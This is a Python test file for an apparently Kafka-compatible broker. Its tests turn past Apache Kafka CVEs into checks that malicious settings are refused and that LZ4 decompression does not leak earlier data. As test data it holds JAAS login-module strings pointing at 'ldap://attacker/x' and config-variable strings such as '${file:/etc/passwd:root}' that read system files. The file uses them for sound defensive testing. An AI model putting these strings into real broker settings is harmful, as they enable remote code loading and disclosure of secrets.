"""What went wrong in Apache Kafka once, each as a test: docs/security.md has the table of all, here are those that
belong nowhere else."""

from __future__ import annotations

import random
import re
from pathlib import Path

import pytest

from moldau.config.broker_config import BrokerConfig, single_node_values
from moldau.config.definitions import ConfigError
from moldau.config.dynamic import DynamicBrokerConfig, validate_broker_configs, validate_topic_configs
from moldau.protocol.errors import KafkaError
from moldau.records.codecs import LZ4, CorruptBatch, DecompressedTooLarge, compress, decompress
from moldau.security.sasl_settings import check_logins

ROOT = Path(__file__).parents[3]
CVES = """2017-12610 2018-1288 2018-17196 2021-38153 2022-34917 2023-34455 2023-25194 2025-27818 2025-27819 2024-27309
    2024-31141 2024-56128 2025-27817 2026-33557 2026-33558 2026-35554 2026-41115 2025-12183 2025-66566 2019-12399"""
JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker/x";'
LDAP = 'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://attacker/x";'
CURRENT = BrokerConfig(
    {
        **single_node_values(),
        "log.dirs": "/data",
        "listeners": "CLIENTS://127.0.0.1:9092,CONTROLLER://127.0.0.1:9093",
        "inter.broker.listener.name": "CLIENTS",
        "listener.security.protocol.map": "CLIENTS:SASL_PLAINTEXT,CONTROLLER:PLAINTEXT",
        "sasl.enabled.mechanisms": "PLAIN",
    }
)
OWN = {"sasl.mechanism.inter.broker.protocol": "PLAIN"}
JAAS = "listener.name.clients.plain.sasl.jaas.config"


def test_every_lesson_is_a_test_that_exists() -> None:
    page = (ROOT / "docs" / "security.md").read_text()
    rows = [line for line in page.splitlines() if line.startswith("| CVE-")]
    named = set(re.findall(r"\d{4}-\d{4,6}", "".join(row.split("|")[1] for row in rows)))
    assert named == set(CVES.split())
    for row in rows:
        tests = re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", row)
        assert tests, f"no test: {row}"
        for path, name in tests:
            assert re.search(rf"def {name}\b", (ROOT / path).read_text()), f"{path} has no {name}"


@pytest.mark.parametrize("entry", [JNDI, LDAP])
@pytest.mark.parametrize("name", [JAAS, "listener.name.clients.scram-sha-256.sasl.jaas.config"])
def test_settings_from_the_wire_name_no_login_module(entry: str, name: str) -> None:
    """CVE-2023-25194, CVE-2025-27818, CVE-2025-27819: refused for one broker and for all."""
    for per_broker in (True, False):
        with pytest.raises(KafkaError):
            validate_broker_configs({name: entry}, per_broker, CURRENT)


@pytest.mark.parametrize("entry", [JNDI, LDAP])
def test_a_login_module_that_is_none_of_kafkas_keeps_a_node_from_starting(entry: str) -> None:
    with pytest.raises(ConfigError, match="classes cannot be loaded here"):
        check_logins(BrokerConfig({**CURRENT.values, JAAS: entry}))


def test_a_line_that_is_for_no_listener_counts_for_nothing() -> None:
    """Kafka takes it from the wire and does not use it; it may say what it likes."""
    good = 'org.apache.kafka.common.security.plain.PlainLoginModule required username="a" password="p" user_a="p";'
    check_logins(BrokerConfig({**CURRENT.values, JAAS: good, **OWN, "sasl.jaas.config": JNDI}, warn=False))


@pytest.mark.parametrize(
    "name",
    [
        "sasl.server.callback.handler.class",
        "listener.name.clients.plain.sasl.server.callback.handler.class",
        "sasl.login.callback.handler.class",
        "principal.builder.class",
        "authorizer.class.name",
        "ssl.engine.factory.class",
    ],
)
def test_settings_from_the_wire_name_no_class(name: str) -> None:
    with pytest.raises(KafkaError):
        validate_broker_configs({name: "com.example.Evil"}, True, CURRENT)


SECRETS = ("${file:/etc/passwd:root}", "${env:HOME}", "${directory:/etc:passwd}", "${sys:user.home}")


@pytest.mark.parametrize("text", SECRETS)
def test_settings_from_the_wire_are_taken_as_they_are(text: str) -> None:
    """CVE-2024-31141: nothing is put in the place of a variable; what cannot be a value is refused as such."""
    dynamic = DynamicBrokerConfig(CURRENT)
    dynamic.update_broker({"listener.name.clients.ssl.keystore.password": text})
    assert dynamic.current.values["listener.name.clients.ssl.keystore.password"] == text
    with pytest.raises(KafkaError) as caught:
        validate_topic_configs({"retention.ms": text})
    assert text in (caught.value.message or "")


def lz4_frames(rng: random.Random, count: int) -> list[bytes]:
    """Good frames with a few bytes changed, so that matches reach to where nothing was written."""
    frames = []
    for _ in range(count):
        frame = bytearray(compress(LZ4, rng.randbytes(20) * rng.randint(1, 60) + bytes(rng.randint(0, 2000)), -1))
        for _ in range(rng.randint(1, 4)):
            frame[rng.randrange(11, len(frame))] = rng.randrange(256)
        frames.append(bytes(frame))
    return frames


def test_what_was_decompressed_before_is_never_handed_out_again() -> None:
    """CVE-2025-12183, CVE-2025-66566: a crafted block must not show what another left in a buffer."""
    rng = random.Random(25)
    secret = b"password of somebody else"
    packed = compress(LZ4, secret * 3000, -1)
    readable = 0
    for frame in lz4_frames(rng, 1500):
        decompress(LZ4, packed, 1 << 20)
        try:
            shown = decompress(LZ4, frame, 1 << 20)
        except (CorruptBatch, DecompressedTooLarge):
            continue
        readable += 1
        assert secret[:8] not in shown
    assert readable > 50, "some of them are understood, wrongly or not"
